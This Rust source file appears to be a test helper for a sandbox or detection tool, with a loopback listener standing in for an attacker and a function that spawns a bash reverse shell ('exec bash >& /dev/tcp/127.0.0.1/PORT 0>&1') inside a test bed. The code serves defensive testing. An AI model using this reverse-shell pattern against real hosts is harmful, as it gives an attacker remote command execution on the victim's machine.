//! The attacker's end of a shell, or an honest server, on loopback.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpListener, TcpStream, UdpSocket},
    process::{Child, Stdio},
    sync::atomic::{AtomicU16, Ordering},
    time::{Duration, Instant},
};

use crate::{bed::Bed, sentinel::PATIENCE};

/// A port of loopback that is free for both TCP and UDP, and that nobody gets by chance: the kernel's own choice
/// begins at 32,768 (ip_local_port_range).
///
/// # Panics
/// When there is none.
pub fn free_port() -> u16 {
    static NEXT: AtomicU16 = AtomicU16::new(24_000);
    let is_free = |port: &u16| {
        let address = ("127.0.0.1", *port);
        TcpListener::bind(address).is_ok() && UdpSocket::bind(address).is_ok()
    };
    (0..1000).map(|_| NEXT.fetch_add(1, Ordering::Relaxed)).find(is_free).expect("a free port")
}

/// Waits for a shell.
pub struct Peer {
    listener: TcpListener,
}

/// A shell that answers.
pub struct Shell {
    stream: TcpStream,
}

impl Peer {
    /// Listens on a free port of `address`, such as `127.0.0.1` or `::1`.
    ///
    /// # Panics
    /// When that is not to be had.
    pub fn listen(address: &str) -> Self {
        let address = address.parse().expect("an address");
        let listener = TcpListener::bind(SocketAddr::new(address, 0)).expect("a free port");
        listener.set_nonblocking(true).expect("a socket");
        Self { listener }
    }

    /// Where it listens.
    ///
    /// # Panics
    /// Never with a listening socket.
    pub fn address(&self) -> SocketAddr {
        self.listener.local_addr().expect("an address")
    }

    /// Takes the next connection.
    ///
    /// # Panics
    /// When none comes.
    pub fn accept(&self) -> TcpStream {
        let limit = Instant::now() + PATIENCE;
        loop {
            match self.listener.accept() {
                Ok((stream, _)) => {
                    stream.set_nonblocking(false).expect("a socket");
                    stream.set_read_timeout(Some(PATIENCE)).expect("a socket");
                    return stream;
                }
                Err(_) if Instant::now() < limit => {
                    std::thread::sleep(Duration::from_millis(1));
                }
                Err(error) => panic!("nobody connected: {error}"),
            }
        }
    }

    /// Takes the next connection as a shell.
    pub fn shell(&self) -> Shell {
        Shell::on(self.accept())
    }
}

/// Starts a shell in `bed` that connects to `peer` and reads its commands there.
///
/// # Panics
/// When it cannot be started.
pub fn reverse_shell(bed: &Bed, peer: &Peer) -> Child {
    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
    let mut command = bed.command("bash");
    let command = command.args(["-c", &code]).stdin(Stdio::null()).stderr(Stdio::null());
    command.spawn().expect("bash starts")
}

impl Shell {
    /// The shell behind `stream`.
    ///
    /// # Panics
    /// When the socket is broken.
    pub fn on(stream: TcpStream) -> Self {
        stream.set_read_timeout(Some(PATIENCE)).expect("a socket");
        Self { stream }
    }

    /// Has the shell tell its pid.
    ///
    /// # Panics
    /// When it does not.
    pub fn pid(&mut self) -> u32 {
        // The quotes keep an echoing terminal from looking like the answer.
        self.stream.write_all(b"echo pid''=$$.\n").expect("a shell that reads");
        let answer = self.read_until(b"pid=", b'.');
        answer.parse().unwrap_or_else(|_| panic!("a pid: {answer:?}"))
    }

    /// Tells the shell to end.
    ///
    /// # Panics
    /// When it is gone already.
    pub fn exit(mut self) {
        self.stream.write_all(b"exit\n").expect("a shell that reads");
        let mut rest = Vec::new();
        let _reset = self.stream.read_to_end(&mut rest);
    }

    /// Hangs up.
    pub fn exit_input(self) {
        let _gone = self.stream.shutdown(std::net::Shutdown::Both);
    }

    fn read_until(&mut self, start: &[u8], end: u8) -> String {
        let mut seen: Vec<u8> = Vec::new();
        let mut byte = [0];
        loop {
            self.stream.read_exact(&mut byte).unwrap_or_else(|error| {
                panic!("{error} after {:?}", String::from_utf8_lossy(&seen))
            });
            seen.push(byte[0]);
            if let Some(at) = seen.windows(start.len()).position(|window| window == start)
                && byte[0] == end
            {
                let found = &seen[at + start.len()..seen.len() - 1];
                return String::from_utf8_lossy(found).into_owned();
            }
        }
    }
}
